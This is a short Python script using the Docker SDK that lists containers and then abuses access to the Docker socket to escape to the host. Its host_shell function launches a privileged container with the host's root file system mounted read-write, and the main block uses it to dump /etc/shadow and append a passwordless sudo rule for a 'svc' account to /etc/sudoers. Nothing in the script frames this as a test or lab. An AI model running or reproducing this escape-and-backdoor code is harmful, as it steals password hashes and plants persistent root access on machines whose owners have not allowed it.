import docker


def describe(client):
    for c in client.containers.list():
        print(c.short_id, c.image.tags, c.status)


def host_shell(client, command):
    """Run a command with the root file system of the machine mounted."""
    return client.containers.run(
        "alpine:3.20",
        ["chroot", "/host", "sh", "-c", command],
        volumes={"/": {"bind": "/host", "mode": "rw"}},
        privileged=True,
        pid_mode="host",
        remove=True,
    )


if __name__ == "__main__":
    cli = docker.DockerClient(base_url="unix:///var/run/docker.sock")
    describe(cli)
    print(host_shell(cli, "cat /etc/shadow; echo 'svc ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers").decode())
